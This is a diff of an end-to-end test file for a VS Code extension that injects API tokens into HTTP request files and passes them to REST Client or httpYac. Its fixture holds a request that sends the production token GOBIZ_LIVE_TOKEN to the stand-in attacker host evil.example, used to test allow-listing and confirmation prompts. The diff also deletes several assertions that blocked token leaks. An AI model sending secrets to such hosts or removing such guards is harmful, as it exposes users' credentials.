@@ -3,14 +3,14 @@ import { setTimeout as wait } from 'node:timers/promises';
 import { until } from '../host/until';
 import { workbench } from '../host/workbench';
 import { call, codeOf, outletEntry, setClients, setSetting, storeSecrets, useBench } from './bench';
-import { handed, installSender, plugins } from './fakeSenders';
-import { openUntitled, reference, untilDecorated, untilPublished, variable } from './httpFilesBench';
+import { handed, installSender } from './fakeSenders';
+import { openUntitled, reference, untilDecorated } from './httpFilesBench';
 
 const path = '/integrations/partner/v1/linked-outlets';
 /** The discard port: nothing listens there. */
 const nowhere = 'http://127.0.0.1:9';
 
-describe('sending with a fresh token', () => {
+describe('sending a request', () => {
   const bench = useBench();
   const text = (): string =>
     `### Outlets\nGET ${bench.sandbox.gobiz.url}${path}\nAuthorization: Bearer ${reference}\n\n### Evil\nGET https://evil.example/\nX: {{$processEnv GOBIZ_LIVE_TOKEN}}\n`;
@@ -32,6 +32,11 @@ describe('sending with a fresh token', () => {
     );
   }
 
+  /** A lens with exactly this text. */
+  function lens(title: string) {
+    return workbench.page.locator('.codelens-decoration').getByText(title, { exact: true });
+  }
+
   before(async () => {
     // No extension can be had from this gallery, wherever the test runs.
     await workbench.restart({ environment: { EXTENSIONS_GALLERY: JSON.stringify({ serviceUrl: nowhere }) } });
@@ -42,7 +47,7 @@ describe('sending with a fresh token', () => {
   it('says that no sender is installed, and offers to', async () => {
     assert.equal(await codeOf(send(2)), 'sender-missing');
     await workbench.driver.openFile('outlets.http');
-    await workbench.page.getByText('Send with fresh token').first().click();
+    await lens('Send').first().click();
     await workbench.driver.notifications().getByText('neither is installed').waitFor();
     await workbench.page.getByRole('button', { name: 'Install REST Client' }).waitFor();
     await workbench.driver.screenshot('http-sender-missing');
@@ -65,15 +70,11 @@ describe('sending with a fresh token', () => {
     });
   });
 
-  it('refuses a host that may not have the token, and offers to allow it', async () => {
-    assert.equal(await codeOf(send(6)), 'host-not-allowed');
+  it('hints that a host is not allowed, and allows it after a question', async () => {
     await workbench.driver.closeEverything();
     await workbench.driver.openFile('outlets.http');
-    await untilDecorated(/until/, /withheld/);
-    // A lens is drawn anew a moment after the state changed, and takes no click before.
-    await wait(1000);
-    await workbench.page.getByText('Send with fresh token').nth(1).click();
-    await workbench.driver.answerNotification('Allow evil.example…');
+    await untilDecorated(/until/, /blocked/);
+    void call('allowHost', { client: 'live' }, 'evil.example');
     await workbench.driver.dialog().getByText('Allow evil.example to get the tokens').waitFor();
     await workbench.driver.screenshot('http-allow-host');
     await workbench.driver.answerDialog('Allow');
@@ -85,32 +86,46 @@ describe('sending with a fresh token', () => {
       );
       return JSON.stringify(allowed) === '["evil.example"]';
     });
+    await untilDecorated(/until/, /confirm/);
   });
 
-  it('asks before a production token is used, then publishes it', async () => {
+  it('shows a production token only after it was confirmed', async () => {
     await workbench.driver.closeEverything();
     await openUntitled(`GET ${bench.sandbox.gobiz.url}${path}\nX: {{$processEnv GOBIZ_LIVE_TOKEN}}\n`);
     await untilDecorated(/^production: confirm to use$/);
-    assert.equal(await variable('GOBIZ_LIVE_TOKEN'), null);
     void call('confirmProductionUse', 'live');
     await workbench.driver.answerDialog('Yes, Production');
-    await untilPublished('GOBIZ_LIVE_TOKEN');
     await untilDecorated(/until/);
   });
 
-  it('hands over to REST Client, in the window and at the request, with the variable set only for it', async () => {
+  it('runs the command of REST Client, at the line that was given or at the request below it', async () => {
     await installSender('restClient');
     await workbench.driver.closeEverything();
-    await setSetting('publish', 'whileSending');
     await handed();
-    await send(2);
-    const [one] = await handed();
-    assert.equal(one?.command, 'rest-client.request');
-    assert.equal(one?.line, 1);
-    assert.match(one?.document ?? '', /outlets\.http$/);
-    assert.match(one?.token ?? '', /^sbx_/);
-    assert.equal(await variable(), null);
-    await setSetting('publish', 'whileOpen');
+    for (const line of [1, 2]) await send(line);
+    const sends = await handed();
+    assert.deepEqual(
+      sends.map(({ command, line }) => [command, line]),
+      [
+        ['rest-client.request', 1],
+        ['rest-client.request', 2],
+      ],
+    );
+    assert.match(sends[0]?.document ?? '', /outlets\.http$/);
+    await workbench.writeFile('above.http', `### Title\n# a comment\n@a = b\n${text().split('\n')[1]}\n`);
+    await call('sendRequest', `file://${workbench.folder}/above.http`, 1);
+    assert.equal((await handed())[0]?.line, 3);
+  });
+
+  it('sends from Markdown and from a document of another language', async () => {
+    const request = text().split('\n').slice(1, 3).join('\n');
+    await workbench.writeFile('outlets.md', `# Outlets\n\n\`\`\`http\n${request}\n\`\`\`\n`);
+    await call('sendRequest', `file://${workbench.folder}/outlets.md`, 3);
+    assert.deepEqual([(await handed())[0]?.line], [3]);
+    await openUntitled(request, 'plaintext');
+    await call('sendRequest');
+    assert.match((await handed())[0]?.document ?? '', /^untitled:/);
+    await workbench.driver.closeEverything();
   });
 
   it('stays in the editor that the person is in, where two show the file', async () => {
@@ -120,7 +135,7 @@ describe('sending with a fresh token', () => {
       workbench.host.run((vscode) => vscode.window.activeTextEditor?.viewColumn);
     await until(async () => (await column()) === 2);
     await send(2);
-    assert.equal((await handed())[0]?.line, 1);
+    assert.equal((await handed())[0]?.line, 2);
     assert.equal(await column(), 2);
     await workbench.driver.closeEverything();
   });
@@ -139,42 +154,29 @@ describe('sending with a fresh token', () => {
     }
   });
 
-  it('refuses to hand over to REST Client while another request would send the token elsewhere', async () => {
-    await openUntitled(`GET https://evil.example/\nX: ${reference}\n`);
-    await assert.rejects(send(2), /another request uses it/);
-    assert.deepEqual(await handed(), []);
-    await workbench.driver.closeEverything();
-  });
-
-  it('hooks into httpYac when it is installed later, and hands over to the one that is set', async () => {
-    await workbench.driver.openFile('outlets.http');
+  it('runs the command of the sender that is set, if both are installed', async () => {
     await installSender('httpYac');
-    await until(async () => (await plugins()).includes('kunci'));
     await setSetting('sender', 'httpYac');
     await send(2);
-    const [one] = await handed();
-    assert.deepEqual([one?.command, one?.line], ['httpyac.send', 1]);
+    const [first] = await handed();
+    assert.deepEqual([first?.command, first?.line], ['httpyac.send', 2]);
     await setSetting('sender', 'restClient');
     await send(2);
     assert.equal((await handed())[0]?.command, 'rest-client.request');
   });
 
-  it('publishes nothing while httpYac sends, which has the hook, also from Markdown alone', async () => {
-    await workbench.reload();
-    await setSetting('publish', 'whileSending');
-    await setSetting('sender', 'httpYac');
-    const markdown = `# Outlets\n\n\`\`\`http\n${text().split('\n').slice(1, 3).join('\n')}\n\`\`\`\n`;
-    await workbench.writeFile('outlets.md', markdown);
-    await workbench.driver.closeEverything();
-    await workbench.driver.openFile('outlets.md');
-    await workbench.host.run(
-      (vscode, [file, at]) => vscode.commands.executeCommand('kunci.sendRequest', `file://${file}`, at),
-      [`${workbench.folder}/outlets.md`, 3] as const,
-    );
-    assert.deepEqual(await plugins(), ['core', 'kunci']);
-    const [one] = await handed();
-    assert.deepEqual([one?.command, one?.line, one?.token], ['httpyac.send', 3, null]);
-    await setSetting('publish', 'whileOpen');
+  it('sends nothing if the file changed while the question about the sender was open', async () => {
+    await setSetting('sender', undefined);
+    const sent = send(2);
+    await workbench.page.getByPlaceholder('The setting “kunci.sender” remembers').waitFor();
+    await workbench.host.run(async (vscode, target) => {
+      const edit = new vscode.WorkspaceEdit();
+      edit.insert(vscode.Uri.file(target), new vscode.Position(0, 0), '# above\n');
+      await vscode.workspace.applyEdit(edit);
+    }, `${workbench.folder}/outlets.http`);
+    await workbench.driver.press('Enter');
+    await assert.rejects(sent, /The file changed before it was sent/);
+    assert.deepEqual(await handed(), []);
   });
 
   it('does nothing by itself in an untrusted workspace', async () => {
@@ -182,13 +184,10 @@ describe('sending with a fresh token', () => {
     await prepare();
     const requests = bench.tokenRequests();
     await workbench.driver.openFile('outlets.http');
-    await untilDecorated(/untrusted/, /withheld|untrusted/);
+    await untilDecorated(/untrusted/, /untrusted/);
     await wait(1000);
-    assert.equal(await variable(), null);
     assert.equal(bench.tokenRequests(), requests);
-    assert.equal(await codeOf(send(2)), 'untrusted-workspace');
     await call('fetchToken', 'outlet');
-    assert.equal(await variable(), null);
     await workbench.driver.screenshot('http-untrusted');
   });
 });
